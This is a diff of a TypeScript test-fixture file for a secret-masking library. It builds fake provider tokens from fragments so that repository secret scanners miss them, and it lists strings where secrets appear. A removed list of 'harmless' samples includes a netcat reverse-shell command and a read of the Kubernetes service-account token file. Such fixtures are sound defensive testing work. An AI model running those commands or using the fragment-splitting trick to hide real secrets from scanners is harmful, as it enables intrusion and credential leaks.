@@ -1,15 +1,7 @@
-/**
- * Secrets that are none. They are put together from parts, so that what scans this repository for secrets finds nothing
- * whole.
- */
-const LETTERS = 'qZ7mK2xR9tB4wN6pL1vC8sD3fG5hJ0yA';
+import { ADDRESSES, COMMANDS, SETTINGS } from './secretPlaces';
+import { gibberish, join, PASSWORD } from './secretValues';
 
-/** As many characters as wanted, of letters and digits. */
-export function gibberish(length: number): string {
-  return LETTERS.repeat(Math.ceil(length / LETTERS.length)).slice(0, length);
-}
-
-const join = (...parts: string[]) => parts.join('');
+export { gibberish, PASSWORD } from './secretValues';
 
 /** One token for each format of the library, by the name of its kind. */
 export const TOKENS: Readonly<Record<string, string>> = {
@@ -47,7 +39,49 @@ export const PRIVATE_KEY = join(
   '-----END RSA PRIV',
   'ATE KEY-----',
 );
-export const PASSWORD = 'hunter-2&tiger;7';
+/** As Docker keeps a login. */
+const LOGIN = Buffer.from('bob:hunter-2').toString('base64');
+
+const hex = (length: number) => '0123456789abcdef'.repeat(Math.ceil(length / 16)).slice(0, length);
+
+/** Tokens of formats of our own (core/masking/providerTokens.ts), by what they are called. A provider may have several. */
+export const PROVIDER_TOKENS: readonly (readonly [kind: string, token: string])[] = [
+  ['digitalocean token', join('do', 'p_v1_', hex(64))],
+  ['digitalocean token', join('do', 'o_v1_', hex(64))],
+  ['digitalocean token', join('do', 'r_v1_', hex(64))],
+  ['telegram token', join('110201543', ':AA', gibberish(33))],
+  ['discord token', join('M', gibberish(25), '.', gibberish(6), '.', gibberish(38))],
+  ['slack credential', join('xap', 'p-1-', 'A0123-1234-', hex(64))],
+  ['slack token', join('xox', 'e.xoxp-1-', gibberish(150))],
+  ['huggingface token', join('h', 'f_', gibberish(34))],
+  ['google token', join('AI', 'za', gibberish(35))],
+  ['google token', join('ya', '29.', 'a0', gibberish(60))],
+  ['google token', join('GOC', 'SPX-', gibberish(28))],
+  ['google token', join('1/', '/0', gibberish(60))],
+  ['aws token', join('Fwo', 'GZXIvYXdz', gibberish(120), '/+x==')],
+  ['aws token', join('IQo', 'Jb3JpZ2luX2Vj', gibberish(120))],
+  ['azure token', join('a1b', '8Q~', gibberish(34))],
+  ['pypi token', join('py', 'pi-Ag', 'EIcHlwaS5vcmc', gibberish(80))],
+  ['terraform token', join(gibberish(14), '.atl', 'asv1.', gibberish(67))],
+  ['gitlab token', join('gl', 'ptt-', hex(40))],
+  ['gitlab token', join('gl', 'rt-', gibberish(20))],
+  ['gitlab token', join('gl', 'dt-', gibberish(20))],
+  ['stripe token', join('wh', 'sec_', gibberish(32))],
+  ['twilio token', join('S', 'K', hex(32))],
+  ['notion token', join('sec', 'ret_', gibberish(43))],
+  ['openai token', join('sk', '-proj-', gibberish(48))],
+  ['openai token', join('sk', '-', gibberish(48))],
+  ['anthropic token', join('sk', '-ant-', 'oat01-', gibberish(95))],
+  ['vault token', join('hv', 's.', gibberish(24))],
+  ['vault token', join('s', '.', gibberish(24))],
+  ['pagerduty token', join('pd', 'us+', '_0XBPWQQ_', hex(36))],
+  ['age token', join('AGE-SEC', 'RET-KEY-1', gibberish(58).toUpperCase())],
+  ['atlassian token', join('AT', 'ATT3xFfGF0', gibberish(60))],
+  ['doppler token', join('dp', '.st.', gibberish(43))],
+  ['postman token', join('PM', 'AK-', hex(24), '-', hex(34))],
+  ['sentry token', join('sn', 'trys_', gibberish(60))],
+  ['airtable token', join('p', 'at', gibberish(14), '.', hex(64))],
+];
 
 /** Secrets in the places that give them away. Each text holds its secret once. */
 export const PLACES: readonly (readonly [text: string, secret: string])[] = [
@@ -93,6 +127,18 @@ export const PLACES: readonly (readonly [text: string, secret: string])[] = [
     `https://${gibberish(30)}@git.test/a`,
     `root:$6$${gibberish(30)}:19000:0`,
   ].map((text) => [text, gibberish(30)] as const),
+  ...SETTINGS.map((text) => [text, PASSWORD] as const),
+  ...COMMANDS.map((text) => [text, PASSWORD] as const),
+  ...ADDRESSES.map((text) => [text, gibberish(43)] as const),
+  ['https://bob:pa/ss@git.test/a', 'pa/ss'],
+  ['postgres://app:a/b?c#d@db:5432/shop', 'a/b?c#d'],
+  [`AKIAIOSFODNN7EXAMPLE ${gibberish(40)}`, gibberish(40)],
+  [`CREDENTIALS\tASIAIOSFODNN7EXAMPLE\t2026-11-21T10:15:31Z\t${gibberish(40)}`, gibberish(40)],
+  [`AccountName=a;AccountKey=${gibberish(86)}==;EndpointSuffix=core`, `${gibberish(86)}==`],
+  [`curl -u ${gibberish(40)}: http://a.test`, gibberish(40)],
+  [`curl -u ${gibberish(40)}:x-oauth-basic http://a.test`, gibberish(40)],
+  [`{"auths":{"r.test":{"auth":"${LOGIN}"}}}`, LOGIN],
+  ['curl -b sid=hunter-2; theme=dark http://a.test', 'hunter-2; theme=dark'],
   ['API_TOKEN="one two three" app', 'one two three'],
   ['git clone https://bob:hunter-2@git.test/a', 'hunter-2'],
   ['redis://:hunter-2@cache:6379/0', 'hunter-2'],
@@ -104,27 +150,4 @@ export const PLACES: readonly (readonly [text: string, secret: string])[] = [
   [`echo ${PRIVATE_KEY} | ssh-add -`, PRIVATE_KEY],
   [`echo "${PRIVATE_KEY.slice(0, 150)}`, PRIVATE_KEY.slice(0, 150)],
   [`{"key":"${PRIVATE_KEY.replaceAll('\n', '\\n')}"}`, gibberish(64)],
-];
-
-/** Texts that speak of secrets, or look as if, and hold none. */
-export const HARMLESS: readonly string[] = [
-  'nc 1.1.1.1 4444 -e /bin/sh',
-  'mkdir -p /var/lib/app',
-  'docker run -p 8080:80 -u 1000:1000 nginx',
-  'ps -p 4711; cp -p a b; tar -cpf a.tar b',
-  'app --password-file /run/secrets/db --token-ttl 3600 --no-password',
-  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
-  'fd.name=/var/run/secrets/kubernetes.io/serviceaccount/token container_id=4e0f2d6f5c3a user=root',
-  'PWD=/root OLDPWD=/ HOME=/root',
-  'mysql -p "$DB_PASSWORD" --password=$DB_PASSWORD --password=${DB_PASSWORD}',
-  'automountServiceAccountToken: false',
-  'prompt_tokens: 812, max_tokens=100',
-  'the secret "db" was not found; the password of user root has expired',
-  '{"secretKeyRef":{"name":"db","key":"password"}}',
-  'secretName: db',
-  'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
-  'https://example.test/a?page=2#top',
-  'git@git.test:a/b.git ssh://git@git.test/a',
-  'AWS_ACCESS_KEY_ID is set',
-  'if (token === other) return key == 1;',
 ];
